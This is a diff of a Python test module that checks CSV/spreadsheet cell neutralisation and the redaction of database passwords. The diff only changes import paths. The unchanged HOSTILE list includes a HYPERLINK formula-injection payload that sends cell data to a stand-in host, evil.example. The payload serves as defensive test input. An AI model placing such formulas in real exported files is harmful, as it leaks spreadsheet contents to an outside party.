@@ -1,4 +1,4 @@
-"""Cells safe to open in a spreadsheet (geo.spreadsheet) and credentials never printed (geo.store)."""
+"""Cells safe to open in a spreadsheet (geo.spreadsheet) and credentials never printed (store)."""
 
 from __future__ import annotations
 
@@ -10,7 +10,7 @@ import pytest
 from geo.errors import StoreError
 from geo.incidents import import_incidents, rejects_csv, write_rejects
 from geo.spreadsheet import neutralise_cell, neutralise_frame
-from geo.store import open_store, redact_url, scrub_secrets, url_secrets
+from store import open_store, redact_url, scrub_secrets, url_secrets
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1;"click")',
@@ -82,7 +82,7 @@ def test_no_password_form_prints(url: str, capsys: pytest.CaptureFixture[str]) -
     assert "SECRET" not in redact_url(url)
     assert "SECRET" in url_secrets(url)
     assert "SECRET" not in scrub_secrets(f"could not connect: {url} (password SECRET)", url)
-    from hotspots import cli
+    import cli
 
     code = cli.main(["stats", "--db", url])
     out, err = capsys.readouterr()
